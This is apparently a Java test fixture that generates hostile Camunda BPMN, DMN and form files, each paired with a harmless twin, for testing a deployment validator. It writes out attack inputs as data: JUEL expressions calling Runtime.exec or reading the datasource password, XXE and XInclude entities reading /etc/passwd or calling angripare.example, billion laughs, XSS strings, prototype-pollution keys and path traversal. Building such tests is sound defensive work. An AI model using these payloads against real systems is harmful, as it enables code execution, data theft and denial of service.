package se.hlt.modelling;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Files by which someone with the right to deploy could try to bring code, and for each kind a harmless twin. */
public final class HostileModels {

    private static final String CANARY = Canary.class.getName();
    private static final String SCRIPT = "java.lang.System.setProperty('" + Canary.PROPERTY + "', 'sang')";

    private static final String BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL";
    private static final String DMN = "https://www.omg.org/spec/DMN/20191111/MODEL/";

    private final List<Hostile> all = new ArrayList<>();

    private HostileModels() {}

    /** One attack: what it is in words, and the files that are deployed together. */
    record Hostile(String words, Map<String, byte[]> files) {

        @Override
        public String toString() {
            return words;
        }
    }

    static List<Hostile> all() {
        HostileModels models = new HostileModels();
        models.scripts();
        models.classes();
        models.expressionsAsSteps();
        models.typesAndConnectors();
        models.beans();
        models.payloads();
        models.placesForExpressions();
        models.formReferences();
        models.otherTenants();
        models.vocabulary();
        models.xml();
        models.otherKinds();
        models.decisions();
        models.forms();
        return Collections.unmodifiableList(models.all);
    }

    /** Of each kind one that is as it should be. */
    static Map<String, byte[]> harmless() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put(
                "diagram.bpmn",
                bytes(harmless(
                        "hostile",
                        task(
                                        "userTask",
                                        "camunda:assignee='${initiator}' camunda:formRef='twin'"
                                                + " camunda:formRefBinding='deployment'"
                                                + " camunda:dueDate=\"${deadline.due('contact', site, urgency, now())}\"")
                                + timer("early", "reminder")
                                + timer("late", "escalation"))));
        files.put(
                "steps.bpmn",
                bytes(harmless("twin-steps", task("serviceTask", "camunda:delegateExpression='${sendReminder}'"))));
        files.put("decision.dmn", bytes(decision("", "site", "", "\"ockero\"", "", "if site = null then 1 else 2")));
        files.put("twin.form", bytes(form(field("textfield", "'key': 'reportNote', 'label': 'Anteckning'"))));
        return files;
    }

    /** A diagram that is as it should be, with the step that a hostile one replaces. */
    static String harmlessDiagram() {
        return harmless("hostile", task("manualTask", ""));
    }

    private static String timer(String name, String asked) {
        return "<boundaryEvent id='event_" + name + "' name='Dags' attachedToRef='task_x' cancelActivity='false'>"
                + "<timerEventDefinition><timeDate xsi:type='tFormalExpression'>${deadline." + asked
                + "('contact', site, urgency, supportAction.prop('dueDate').stringValue())}</timeDate>"
                + "</timerEventDefinition></boundaryEvent><sequenceFlow id='flow_" + name + "' sourceRef='event_" + name
                + "' targetRef='event_done'/>";
    }

    private static String harmless(String key, String inside) {
        return process(
                        key,
                        inside + "<sequenceFlow id='flow_end' sourceRef='task_x' targetRef='event_done'/>"
                                + "<endEvent id='event_done' name='Klart'/>")
                .replace("isExecutable='true'", "isExecutable='true' camunda:isStartableInTasklist='false'");
    }

    static String scriptDiagram() {
        return process(
                "<scriptTask id='task_x' scriptFormat='javascript'><script>" + SCRIPT + "</script></scriptTask>");
    }

    private void scripts() {
        for (String language : List.of("javascript", "groovy", "python", "ruby", "juel", "feel", "feel-scala")) {
            diagram(
                    "script task in " + language,
                    "<scriptTask id='task_x' name='Räkna' scriptFormat='" + language + "'><script>" + SCRIPT
                            + "</script></scriptTask>");
        }
        String script = "<camunda:script scriptFormat='javascript'>" + SCRIPT + "</camunda:script>";
        diagram(
                "script task whose script is another file",
                "<scriptTask id='task_x' scriptFormat='groovy'" + " camunda:resource='deployment://x.groovy'/>");
        diagram(
                "script task that takes its script from an expression",
                "<scriptTask id='task_x' scriptFormat='groovy'>" + "<script>${code}</script></scriptTask>");
        diagram(
                "script in an execution listener",
                extended(
                        "serviceTask",
                        "camunda:delegateExpression='${sendReminder}'",
                        "<camunda:executionListener event='start'>" + script + "</camunda:executionListener>"));
        diagram(
                "script in a task listener",
                extended("userTask", "", "<camunda:taskListener event='create'>" + script + "</camunda:taskListener>"));
        diagram(
                "script in a task listener that waits for a timer",
                extended(
                        "userTask", "", "<camunda:taskListener event='timeout'>" + script + "</camunda:taskListener>"));
        diagram(
                "script from a file in a listener",
                extended(
                        "userTask",
                        "",
                        "<camunda:executionListener event='end'>"
                                + "<camunda:script scriptFormat='groovy' resource='classpath://x.groovy'/></camunda:executionListener>"));
        for (String parameter : List.of("inputParameter", "outputParameter")) {
            diagram("script in an " + parameter, mapped(parameter, script));
            diagram(
                    "script in a list in an " + parameter,
                    mapped(parameter, "<camunda:list>" + script + "</camunda:list>"));
            diagram(
                    "script in a map in an " + parameter,
                    mapped(
                            parameter,
                            "<camunda:map><camunda:entry key='a'>" + script + "</camunda:entry></camunda:map>"));
        }
        diagram(
                "condition in a script language",
                conditional("xsi:type='tFormalExpression' language='javascript'", "true"));
        diagram(
                "condition whose script is another file",
                conditional(
                        "xsi:type='tFormalExpression' language='groovy' camunda:resource='deployment://x.groovy'", ""));
        diagram(
                "event that waits for a condition in a script language",
                task("task", "")
                        + "<intermediateCatchEvent id='event_wait'><conditionalEventDefinition><condition"
                        + " xsi:type='tFormalExpression' language='javascript'>" + SCRIPT
                        + "</condition></conditionalEventDefinition></intermediateCatchEvent>");
        diagram(
                "script task in the namespace of drawings",
                "<di:scriptTask xmlns:di='http://www.omg.org/spec/BPMN/20100524/DI'"
                        + " id='task_x' scriptFormat='javascript'><script>" + SCRIPT + "</script></di:scriptTask>");
        diagram(
                "script task in a namespace of its own",
                "<x:scriptTask xmlns:x='urn:x' id='task_x'" + " scriptFormat='javascript'><x:script>" + SCRIPT
                        + "</x:script></x:scriptTask>");
        file(
                "script outside the process",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "</definitions>",
                                "<globalScriptTask id='global'><script>" + SCRIPT
                                        + "</script></globalScriptTask></definitions>"));
        file(
                "script in a listener on the process",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "<startEvent",
                                "<extensionElements><camunda:executionListener event='start'>" + script
                                        + "</camunda:executionListener></extensionElements><startEvent"));
        file(
                "script in a listener on a sequence flow",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "targetRef='task_x'/>",
                                "targetRef='task_x'><extensionElements><camunda:executionListener event='take'>"
                                        + script + "</camunda:executionListener></extensionElements></sequenceFlow>"));
    }

    private void classes() {
        String named = "camunda:class='" + CANARY + "'";
        for (String kind : List.of("serviceTask", "sendTask", "businessRuleTask")) {
            diagram("class in a " + kind, task(kind, named));
        }
        for (String event : List.of("start", "end")) {
            diagram(
                    "class in an execution listener at " + event,
                    extended("task", "", "<camunda:executionListener event='" + event + "' class='" + CANARY + "'/>"));
        }
        for (String event : List.of("create", "assignment", "complete", "delete", "update")) {
            diagram(
                    "class in a task listener at " + event,
                    extended("userTask", "", "<camunda:taskListener event='" + event + "' class='" + CANARY + "'/>"));
        }
        diagram(
                "class that gets a field",
                extended("serviceTask", named, "<camunda:field name='word' stringValue='x'/>"));
        diagram(
                "field that gets an expression",
                extended(
                        "serviceTask",
                        "camunda:delegateExpression='${sendReminder}'",
                        "<camunda:field name='word'><camunda:expression>${" + Canary.EXPLOIT
                                + "}</camunda:expression></camunda:field>"));
        diagram(
                "class in a message event",
                task("task", "") + "<intermediateThrowEvent id='event_say'>" + "<messageEventDefinition " + named
                        + "/></intermediateThrowEvent>");
        diagram(
                "class that maps variables",
                task("callActivity", "calledElement='x' camunda:variableMappingClass='" + CANARY + "'"));
        diagram(
                "bean that maps variables",
                task("callActivity", "calledElement='x' camunda:variableMappingDelegateExpression='${sendReminder}'"));
        diagram("class that handles a form", task("userTask", "camunda:formHandlerClass='" + CANARY + "'"));
        diagram(
                "class in the namespace of Camunda's forerunner",
                "<serviceTask id='task_x'" + " xmlns:activiti='http://activiti.org/bpmn' activiti:class='" + CANARY
                        + "'/>");
        diagram(
                "listener in the namespace of Camunda's forerunner",
                extended(
                        "task",
                        "",
                        "<activiti:executionListener"
                                + " xmlns:activiti='http://activiti.org/bpmn' event='start' class='" + CANARY + "'/>"));
        diagram("class of the JDK", task("serviceTask", "camunda:class='java.lang.ProcessBuilder'"));
        file(
                "class in a listener on the process",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "<startEvent",
                                "<extensionElements><camunda:executionListener event='start' class='" + CANARY
                                        + "'/></extensionElements><startEvent"));
    }

    private void expressionsAsSteps() {
        for (String kind : List.of("serviceTask", "sendTask", "businessRuleTask")) {
            diagram(
                    "expression in a " + kind,
                    task(kind, attribute("camunda:expression", "${" + Canary.EXPLOIT + "}")));
            diagram("expression without harm in a " + kind, task(kind, "camunda:expression='${true}'"));
        }
        diagram(
                "expression in an execution listener",
                extended(
                        "task",
                        "",
                        "<camunda:executionListener event='start' "
                                + attribute("expression", "${" + Canary.EXPLOIT + "}") + "/>"));
        diagram(
                "expression in a task listener",
                extended(
                        "userTask",
                        "",
                        "<camunda:taskListener event='create' " + attribute("expression", "${" + Canary.EXPLOIT + "}")
                                + "/>"));
        diagram(
                "expression in a message event",
                task("task", "") + "<intermediateThrowEvent id='event_say'>"
                        + "<messageEventDefinition camunda:expression='${true}'/></intermediateThrowEvent>");
    }

    private void typesAndConnectors() {
        for (String type : List.of("shell", "mail", "external", "mule", "camel", "http")) {
            diagram("service task of type " + type, task("serviceTask", "camunda:type='" + type + "'"));
        }
        diagram(
                "shell with a command",
                extended(
                        "serviceTask",
                        "camunda:type='shell'",
                        "<camunda:field name='command' stringValue='touch'/><camunda:field name='arg1' stringValue='canary'/>"));
        diagram(
                "business rule task that is external",
                task("businessRuleTask", "camunda:type='external' camunda:topic='x'"));
        diagram("send task that is external", task("sendTask", "camunda:type='external' camunda:topic='x'"));
        diagram(
                "message event that is external",
                task("task", "") + "<endEvent id='event_say'>"
                        + "<messageEventDefinition camunda:type='external' camunda:topic='x'/></endEvent>");
        for (String connector : List.of("http-connector", "soap-http-connector", "mail-send")) {
            diagram(
                    "connector " + connector,
                    extended(
                            "serviceTask",
                            "",
                            "<camunda:connector><camunda:connectorId>" + connector
                                    + "</camunda:connectorId></camunda:connector>"));
        }
    }

    private void beans() {
        for (String bean : List.of(
                "dataSource",
                "environment",
                "systemProperties",
                "processEngine",
                "runtimeService",
                "repositoryService",
                "identityService",
                "jdbcTemplate",
                "deploymentDoor",
                "deadline",
                "noSuchStep")) {
            diagram("step that is " + bean, task("serviceTask", "camunda:delegateExpression='${" + bean + "}'"));
        }
        diagram("step without braces", task("serviceTask", "camunda:delegateExpression='sendReminder'"));
        diagram(
                "step that calls one itself",
                task("serviceTask", "camunda:delegateExpression='${sendReminder.execute(execution)}'"));
        diagram(
                "step that is chosen",
                task("serviceTask", "camunda:delegateExpression='${urgent ? sendReminder : dataSource}'"));
        diagram(
                "step in two parts",
                task("serviceTask", "camunda:delegateExpression='${sendReminder}${sendReminder}'"));
        diagram("step that a variable names", task("serviceTask", "camunda:delegateExpression='${whatTheUserTyped}'"));
        diagram("listener where a step stands", task("serviceTask", "camunda:delegateExpression='${openMeeting}'"));
        diagram(
                "step where a task listener stands",
                extended(
                        "userTask", "", "<camunda:taskListener event='create' delegateExpression='${sendReminder}'/>"));
        diagram(
                "unknown bean in an execution listener",
                extended("task", "", "<camunda:executionListener event='start' delegateExpression='${dataSource}'/>"));
        diagram(
                "unknown bean in a message event",
                task("task", "") + "<endEvent id='event_say'>"
                        + "<messageEventDefinition camunda:delegateExpression='${dataSource}'/></endEvent>");
    }

    private void payloads() {
        for (String payload : payloadExpressions()) {
            diagram("assignee is " + payload, task("userTask", attribute("camunda:assignee", payload)));
        }
    }

    /** JUEL that tries to reach beyond its values. */
    public static List<String> payloadExpressions() {
        return List.of(
                "${" + Canary.EXPLOIT + "}",
                "#{" + Canary.EXPLOIT + "}",
                "a ${" + Canary.EXPLOIT + "} b",
                "${''['class'].forName('java.lang.Runtime').getRuntime().exec('id')}",
                "${''[\"getClass\"]()}",
                "${initiator.getClass()}",
                "${initiator.class.classLoader}",
                "${execution.engineServices.repositoryService}",
                "${execution.getProcessEngineServices().getRuntimeService()}",
                "${execution.setVariable('consentGiven', true)}",
                "${execution.getProcessEngine()}",
                "${execution.processInstance.superExecution}",
                "${task.delegateTask.complete()}",
                "${task.setAssignee('sven.skola')}",
                "${environment.getProperty('spring.datasource.password')}",
                "${environment}",
                "${systemProperties}",
                "${dataSource.connection}",
                "${processEngine.identityService.deleteUser('lena.larare')}",
                "${deadline.getClass()}",
                "${deadline.class}",
                "${deadline.clock}",
                "${deadline.due('contact')}",
                "${deadline.wait()}",
                "${sendReminder.execute(execution)}",
                "${supportAction.prop('responsible', 'sven.skola')}",
                "${supportAction.unwrap().getClass()}",
                "${supportAction.mapTo('" + CANARY + "')}",
                "${decisionResult.getClass()}",
                "${S('{}').mapTo('" + CANARY + "')}",
                "${JSON('{}')}",
                "${java:lang('x')}",
                "${now().getClass()}",
                "${dateTime().getChronology().getClass()}",
                "${loopCounter == 0 ? ''.getClass() : 1}",
                "${empty ''.getClass()}",
                "${not broken");
    }

    private void placesForExpressions() {
        String payload = "${" + Canary.EXPLOIT + "}";
        for (String name : List.of("candidateUsers", "candidateGroups", "dueDate", "followUpDate", "priority")) {
            diagram("payload in " + name, task("userTask", attribute("camunda:" + name, payload)));
        }
        diagram(
                "payload in a job's priority",
                task("task", "camunda:asyncBefore='true' " + attribute("camunda:jobPriority", payload)));
        diagram("payload in a task's name", task("userTask", attribute("name", payload)));
        diagram(
                "payload in the description",
                "<userTask id='task_x'><documentation>" + escaped(payload) + "</documentation></userTask>");
        diagram(
                "payload in a form's name",
                task("userTask", attribute("camunda:formRef", payload) + " camunda:formRefBinding='deployment'"));
        diagram("payload in the called process", task("callActivity", attribute("calledElement", payload)));
        diagram(
                "payload in a call's variables",
                extended(
                        "callActivity",
                        "calledElement='consent'",
                        "<camunda:in " + attribute("sourceExpression", payload) + " target='a'/>"));
        diagram(
                "payload in a call's business key",
                extended(
                        "callActivity",
                        "calledElement='consent'",
                        "<camunda:in " + attribute("businessKey", payload) + "/>"));
        diagram(
                "payload in what a call gives back",
                extended(
                        "callActivity",
                        "calledElement='consent'",
                        "<camunda:out " + attribute("sourceExpression", payload) + " target='a'/>"));
        diagram("payload in the decision's name", task("businessRuleTask", attribute("camunda:decisionRef", payload)));
        diagram("payload in a condition", conditional("xsi:type='tFormalExpression'", escaped(payload)));
        for (String parameter : List.of("inputParameter", "outputParameter")) {
            diagram("payload in an " + parameter, mapped(parameter, escaped(payload)));
            diagram(
                    "payload in a list in an " + parameter,
                    mapped(
                            parameter,
                            "<camunda:list><camunda:value>" + escaped(payload) + "</camunda:value></camunda:list>"));
        }
        diagram(
                "payload in the collection of a loop",
                "<task id='task_x'><multiInstanceLoopCharacteristics " + attribute("camunda:collection", payload)
                        + "/></task>");
        for (String part : List.of("loopCardinality", "completionCondition")) {
            diagram(
                    "payload in a loop's " + part,
                    "<task id='task_x'><multiInstanceLoopCharacteristics><" + part
                            + " xsi:type='tFormalExpression'>" + escaped(payload) + "</" + part
                            + "></multiInstanceLoopCharacteristics></task>");
        }
        for (String timer : List.of("timeDate", "timeDuration", "timeCycle")) {
            diagram(
                    "payload in a timer's " + timer,
                    task("userTask", "") + "<boundaryEvent id='event_late'"
                            + " attachedToRef='task_x'><timerEventDefinition><" + timer
                            + " xsi:type='tFormalExpression'>"
                            + escaped(payload) + "</" + timer + "></timerEventDefinition></boundaryEvent>");
        }
        diagram(
                "payload split by CDATA in a condition",
                conditional("xsi:type='tFormalExpression'", "$<![CDATA[{" + Canary.EXPLOIT + "}]]>"));
        diagram(
                "payload written with character references",
                task("userTask", "camunda:assignee=\"&#36;&#123;" + Canary.EXPLOIT + "&#125;\""));
        file(
                "payload in a message's name",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "</definitions>",
                                "<message id='message_x' " + attribute("name", payload) + "/></definitions>"));
        file(
                "payload in an error's message",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "</definitions>",
                                "<error id='error_x' errorCode='x' " + attribute("camunda:errorMessage", payload)
                                        + "/></definitions>"));
        file(
                "payload in who may start it",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "isExecutable",
                                attribute("camunda:candidateStarterGroups", payload) + " isExecutable"));
    }

    private void formReferences() {
        for (String key : List.of(
                "embedded:app:forms/x.html",
                "embedded:deployment:x.html",
                "app:x.html",
                "deployment:x.html",
                "https://angripare.example/x.html",
                "camunda-forms:deployment:x.form",
                "${formKey}")) {
            diagram("form key " + key, task("userTask", "camunda:formKey='" + key + "'"));
        }
        for (String binding : List.of("latest", "version", "")) {
            diagram(
                    "form with binding '" + binding + "'",
                    task(
                            "userTask",
                            "camunda:formRef='x'"
                                    + (binding.isEmpty() ? "" : " camunda:formRefBinding='" + binding + "'")));
        }
        diagram(
                "form of a chosen version",
                task("userTask", "camunda:formRef='x' camunda:formRefBinding='deployment' camunda:formRefVersion='1'"));
        diagram(
                "generated form with a validator",
                extended(
                        "userTask",
                        "",
                        "<camunda:formData><camunda:formField id='a'"
                                + " type='string'><camunda:validation><camunda:constraint name='validator' config='"
                                + CANARY
                                + "'/></camunda:validation></camunda:formField></camunda:formData>"));
        diagram("generated form of the forerunner", extended("userTask", "", "<camunda:formProperty id='a'/>"));
        file(
                "form key on the start",
                "x.bpmn",
                process(task("task", ""))
                        .replace("<startEvent ", "<startEvent camunda:formKey='embedded:app:x.html' "));
    }

    private void otherTenants() {
        diagram(
                "call into another tenant",
                task("callActivity", "calledElement='consent' camunda:calledElementTenantId='ockero.school'"));
        diagram(
                "decision of another tenant",
                task(
                        "businessRuleTask",
                        "camunda:decisionRef='deadlines'" + " camunda:decisionRefTenantId='ockero.school'"));
        diagram("case of another kind of engine", task("callActivity", "camunda:caseRef='x'"));
    }

    private void vocabulary() {
        diagram("element of an unknown namespace", task("task", "") + "<x:anything xmlns:x='urn:x'/>");
        diagram("attribute of an unknown namespace", "<task id='task_x' xmlns:x='urn:x' x:run='me'/>");
        diagram("unknown attribute of the engine", task("task", "camunda:runThis='x'"));
        diagram("unknown element of the engine", extended("task", "", "<camunda:runThis/>"));
        diagram(
                "performer by expression",
                "<userTask id='task_x'><humanPerformer><resourceAssignmentExpression>"
                        + "<formalExpression>${a}</formalExpression></resourceAssignmentExpression></humanPerformer></userTask>");
        file(
                "import of another file",
                "x.bpmn",
                process(task("task", ""))
                        .replace(
                                "<process",
                                "<import importType='http://schemas.xmlsoap.org/wsdl/' location='http://angripare.example/x.wsdl'"
                                        + " namespace='x'/><process"));
        file(
                "expression language of one's own",
                "x.bpmn",
                process(task("task", "")).replace("<definitions", "<definitions expressionLanguage='javascript'"));
    }

    private void xml() {
        String diagram = process(task("task", ""));
        Map<String, String> heads = new LinkedHashMap<>();
        heads.put("DOCTYPE", "<!DOCTYPE definitions>");
        heads.put("entity of its own", "<!DOCTYPE d [<!ENTITY a 'b'>]>");
        heads.put("entity that reads a file", "<!DOCTYPE d [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>");
        heads.put("entity that calls out", "<!DOCTYPE d [<!ENTITY a SYSTEM 'http://angripare.example/x'>]>");
        heads.put("parameter entity", "<!DOCTYPE d [<!ENTITY % a SYSTEM 'http://angripare.example/x'>%a;]>");
        heads.put("DTD elsewhere", "<!DOCTYPE d SYSTEM 'http://angripare.example/x.dtd'>");
        heads.put(
                "billion laughs",
                "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>"
                        + "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'>]>");
        heads.put("style sheet", "<?xml-stylesheet type='text/xsl' href='http://angripare.example/x.xsl'?>");
        heads.forEach((words, head) -> {
            file(
                    words + " before a diagram",
                    "x.bpmn",
                    head + diagram.replace("Start'", words.equals("billion laughs") ? "&d;'" : "Start'"));
            file(words + " before a decision", "x.dmn", head + decision("", "site", "", "-", "", "1"));
        });
        add(
                "DOCTYPE in UTF-16",
                Map.of(
                        "x.bpmn",
                        ("<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE d>" + diagram)
                                .getBytes(StandardCharsets.UTF_16)));
        file(
                "inclusion of another file",
                "x.bpmn",
                diagram.replace(
                        "<process",
                        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/><process"));
        file("XML that ends too early", "x.bpmn", diagram.substring(0, diagram.length() / 2));
        file(
                "XML that is nested a thousand times",
                "x.bpmn",
                process("<subProcess>".repeat(1000) + "</subProcess>".repeat(1000)));
        file("no XML at all", "x.bpmn", "#!/bin/sh\ntouch canary");
        file("nothing", "x.bpmn", "");
    }

    private void otherKinds() {
        for (String name : List.of(
                "x.js",
                "x.mjs",
                "x.groovy",
                "x.py",
                "x.rb",
                "x.sh",
                "x.html",
                "x.svg",
                "x.jar",
                "x.zip",
                "x.class",
                "x.png",
                "x.properties",
                "x.xml",
                "x.cmmn",
                "x.cmmn10.xml",
                "x.bpmn20.xml",
                "x.dmn11.xml",
                "x.BPMN",
                "x.form.html",
                "x")) {
            file("file " + name, name, process(task("task", "")));
        }
        Map<String, byte[]> both = new LinkedHashMap<>();
        both.put("good.bpmn", bytes(process(task("task", ""))));
        both.put("x.js", bytes(SCRIPT));
        add("script beside a good diagram", both);
        file("name that climbs upwards", "a/../../x.bpmn", process(task("task", "")));
        String filler = "<!--" + "x".repeat(2_100_000) + "-->";
        file("diagram of two megabytes", "x.bpmn", process(task("task", "") + filler));
        file(
                "decision of two megabytes",
                "x.dmn",
                decision("", "site", "", "-", "", "1").replace("</decision>", filler + "</decision>"));
        file("form of two megabytes", "x.form", form(field("text", "'text': '" + "x".repeat(2_100_000) + "'")));
    }

    private void decisions() {
        for (String language : List.of("juel", "javascript", "groovy", "python", "JUEL")) {
            String chosen = "expressionLanguage='" + language + "'";
            file("decision whose input is " + language, "x.dmn", decision(chosen, "1", "", "-", "", "1"));
            file("decision whose output is " + language, "x.dmn", decision("", "site", "", "-", chosen, "1"));
        }
        file(
                "decision whose condition is JUEL",
                "x.dmn",
                decision("", "site", "expressionLanguage='juel'", "${true}", "", "1"));
        file(
                "decision wholly in JUEL",
                "x.dmn",
                decision("", "site", "", "-", "", "1")
                        .replace("<definitions", "<definitions expressionLanguage='juel'"));
        file(
                "expression in JUEL instead of a table",
                "x.dmn",
                literal("expressionLanguage='juel'", "${" + Canary.EXPLOIT + "}"));
        file("expression in a script language", "x.dmn", literal("expressionLanguage='javascript'", SCRIPT));
        String java = "function(a, b) external { java: { class: \"java.lang.System\", 'method signature':"
                + " \"setProperty(java.lang.String, java.lang.String)\" } }";
        String external = "{ f: " + java.replace('\'', '"') + ", r: f(\"" + Canary.PROPERTY + "\", \"sang\") }.r";
        file("FEEL in an input that calls Java", "x.dmn", decision("", external, "", "-", "", "1"));
        file("FEEL in an output that calls Java", "x.dmn", decision("", "site", "", "-", "", external));
        file("FEEL in a condition that calls Java", "x.dmn", decision("", "site", "", external, "", "1"));
        file("FEEL alone that calls Java", "x.dmn", literal("", external));
        file("FEEL that only defines such a function", "x.dmn", literal("", java.replace('\'', '"')));
        file("FEEL that defines a function", "x.dmn", literal("", "{f: function(a) f(a), r: f(1)}.r"));
        file("FEEL that calls a value's method", "x.dmn", literal("", "site.getClass()"));
        file(
                "FEEL that calls a method of a method",
                "x.dmn",
                decision("", "site.getClass().forName(\"x\")", "", "-", "", "1"));
        file("FEEL that counts for ever", "x.dmn", literal("", "count(for a in 1..99999, b in 1..99999 return a)"));
        file("FEEL that cannot be read", "x.dmn", literal("", "if if if"));
        file("FEEL in ten thousand parentheses", "x.dmn", literal("", "(".repeat(10_000)));
        String function =
                "<encapsulatedLogic kind='Java'><literalExpression><text>x</text></literalExpression></encapsulatedLogic>";
        file(
                "business knowledge in Java",
                "x.dmn",
                decision("", "site", "", "-", "", "1")
                        .replace(
                                "</definitions>",
                                "<businessKnowledgeModel id='b'>" + function
                                        + "</businessKnowledgeModel></definitions>"));
        file(
                "function definition in Java",
                "x.dmn",
                box("<functionDefinition kind='Java'><literalExpression><text>x</text>"
                        + "</literalExpression></functionDefinition>"));
        file(
                "invocation",
                "x.dmn",
                box("<invocation><literalExpression><text>f</text></literalExpression></invocation>"));
        file(
                "context",
                "x.dmn",
                box("<context><contextEntry><literalExpression><text>1</text></literalExpression>"
                        + "</contextEntry></context>"));
        file(
                "decision that imports",
                "x.dmn",
                decision("", "site", "", "-", "", "1")
                        .replace(
                                "<decision ",
                                "<import namespace='x' importType='x' locationURI='http://angripare.example/x.dmn'/><decision "));
        file(
                "decision of an older DMN, whose default is JUEL",
                "x.dmn",
                decision("", "site", "", "-", "", "1").replace(DMN, "http://www.omg.org/spec/DMN/20151101/dmn.xsd"));
        file(
                "decision with something of the engine's that is unknown",
                "x.dmn",
                decision("", "site", "", "-", "", "1")
                        .replace(
                                "<decisionTable",
                                "<decisionTable xmlns:c='http://camunda.org/schema/1.0/dmn' c:script='x'"));
    }

    private void forms() {
        for (String type :
                List.of("html", "iframe", "expression", "filepicker", "documentPreview", "script", "default", "")) {
            file("form with a component of type '" + type + "'", "x.form", form(field(type, "'content': 'x'")));
        }
        String html = field("html", "'content': 'x'");
        file("HTML in a group", "x.form", form(field("group", "'components': [" + html + "]")));
        file("HTML in a list", "x.form", form(field("dynamiclist", "'path': 'a', 'components': [" + html + "]")));
        file("components that are no list", "x.form", "{'id': 'x', 'components': {'a': 1}}".replace('\'', '"'));
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("script", "<script>alert(1)</script>");
        texts.put("picture that fails on purpose", "<img src=x onerror=alert(1)>");
        texts.put("HTML with a space", "< iframe src=x>");
        texts.put("HTML written with character references", "&#60;script&#62;");
        texts.put("HTML written with named references", "&lt;script&gt;");
        texts.put("link that runs", "[Läs mer](javascript:alert(1))");
        texts.put("link that runs, with an invisible sign in it", "[Läs mer](java\u200Bscript:alert(1))");
        texts.put("link with data", "[Läs mer](data:text/html;base64,PHNjcmlwdD4=)");
        texts.put("link to another site", "[Läs mer](https://angripare.example/x)");
        texts.put("link to another site without protocol", "[Läs mer](//angripare.example/x)");
        texts.put("link to another site that mimics ours", "[Läs mer](/camunda/app/../..//angripare.example)");
        texts.put("link by reference", "[Läs mer][1]");
        texts.put("bare address", "Gå till www.angripare.example");
        texts.put("picture that tells who reads", "![](https://angripare.example/{{childName}})");
        texts.put("link put together by an expression", "{{\\\"[x](ht\\\" + \\\"tp:/\\\" + \\\"/x)\\\"}}");
        texts.put("HTML put together by an expression", "{{\\\"<scr\\\" + \\\"ipt>\\\"}}");
        texts.forEach((words, text) ->
                file("form whose text has " + words, "x.form", form(field("text", "'text': '" + text + "'"))));
        file("form whose label has HTML", "x.form", form(field("textfield", "'key': 'a', 'label': '<b onclick=x>'")));
        file(
                "form whose option has HTML",
                "x.form",
                form(field("select", "'key': 'a', 'values': [{'label': '<img src=x>', 'value': 'x'}]")));
        file(
                "form whose description links away",
                "x.form",
                form(field("textfield", "'key': 'a', 'description': '[x](https://angripare.example)'")));
        for (String source : List.of(
                "https://angripare.example/x.png",
                "data:image/svg+xml;base64,PHN2Zz4=",
                "data:text/html,x",
                "javascript:alert(1)",
                "=picture",
                "/engine-rest/user/x/picture")) {
            file("picture from " + source, "x.form", form(field("image", "'source': '" + source + "'")));
        }
        for (String key : List.of("__proto__", "constructor.prototype", "a b(c)")) {
            file("form field called " + key, "x.form", form(field("textfield", "'key': '" + key + "'")));
        }
        file(
                "form with a property called __proto__",
                "x.form",
                form(field("textfield", "'key': 'a', '__proto__': {'x': 1}")));
        file("form with the same property twice", "x.form", form(field("textfield", "'key': 'a', 'type': 'html'")));
        file("form that is nested a thousand times", "x.form", "[".repeat(1000) + "]".repeat(1000));
        file("form that is a list", "x.form", "[]");
        file("form that is HTML", "x.form", "<html><script>alert(1)</script></html>");
        file("form with something after its end", "x.form", form(field("textfield", "'key': 'a'")) + "<script>");
        file("form without id", "x.form", "{\"components\": []}");
    }

    private void diagram(String words, String inside) {
        file(words, "x.bpmn", process(inside));
    }

    private void file(String words, String name, String content) {
        add(words, Map.of(name, bytes(content)));
    }

    private void add(String words, Map<String, byte[]> files) {
        all.add(new Hostile(words, files));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String process(String inside) {
        return process("hostile", inside);
    }

    private static String process(String key, String inside) {
        return "<definitions xmlns='" + BPMN + "' xmlns:camunda='http://camunda.org/schema/1.0/bpmn'"
                + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' id='definitions_x' targetNamespace='x'>"
                + "<process id='" + key + "' name='Prov' isExecutable='true' camunda:historyTimeToLive='1'>"
                + "<startEvent id='event_start' name='Start'/>"
                + "<sequenceFlow id='flow_begin' sourceRef='event_start' targetRef='task_x'/>"
                + inside + "</process></definitions>";
    }

    private static String task(String kind, String attributes) {
        String named = attributes.contains(" name=") || attributes.startsWith("name=") ? "" : " name='Gör något'";
        return "<" + kind + " id='task_x'" + named + " " + attributes + "/>";
    }

    private static String extended(String kind, String attributes, String extension) {
        return "<" + kind + " id='task_x' name='Gör något' " + attributes + "><extensionElements>" + extension
                + "</extensionElements></" + kind + ">";
    }

    private static String mapped(String parameter, String value) {
        return extended(
                "serviceTask",
                "camunda:delegateExpression='${sendReminder}'",
                "<camunda:inputOutput><camunda:" + parameter + " name='a'>" + value + "</camunda:" + parameter
                        + "></camunda:inputOutput>");
    }

    private static String conditional(String attributes, String condition) {
        return task("exclusiveGateway", "") + "<endEvent id='event_end'/><sequenceFlow id='flow_on' sourceRef='task_x'"
                + " targetRef='event_end'><conditionExpression " + attributes + ">" + condition
                + "</conditionExpression></sequenceFlow>";
    }

    private static String attribute(String name, String value) {
        return name + "=\"" + escaped(value) + "\"";
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
    }

